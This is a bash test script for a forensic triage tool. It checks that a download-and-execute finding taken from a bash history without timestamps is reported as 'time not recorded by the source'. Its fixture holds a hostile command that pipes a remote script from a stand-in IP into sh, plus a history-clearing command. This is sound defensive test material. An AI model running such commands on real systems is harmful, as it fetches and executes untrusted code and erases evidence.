#!/usr/bin/env bash
# A finding from a source without times (a bash history without #epoch lines) reads "time
# not recorded by the source" in the HTML and Markdown reports, never "— to —".
source "$(dirname "$0")/../lib.sh"

EV=$TMP/ev; C=$TMP/case
mkdir -p "$EV/root"
printf '%s\n' 'id' 'curl -s http://203.0.113.9/x.sh | sh' 'history -c' > "$EV/root/.bash_history"
expect_rc investigate_timeless_history_exits_0 0 "$KS" investigate "$EV" -o "$C"
expect_eq history_has_no_times "$(q "$C" "SELECT count(*) || ' ' || count(time) FROM shell_history")" "3 0"
expect_eq download_exec_found_without_time \
  "$(q "$C" "SELECT count(*) FROM findings WHERE analyzer = 'host_download_exec' AND first_seen IS NULL")" "1"
expect_grep html_says_time_not_recorded 'time not recorded by the source' "$C/report.html"
expect_grep md_says_time_not_recorded 'time not recorded by the source' "$C/report.md"
check html_has_no_dash_to_dash bash -c "! grep -q '— to —' '$C/report.html'"
check md_has_no_dash_to_dash bash -c "! grep -q '— to —' '$C/report.md'"
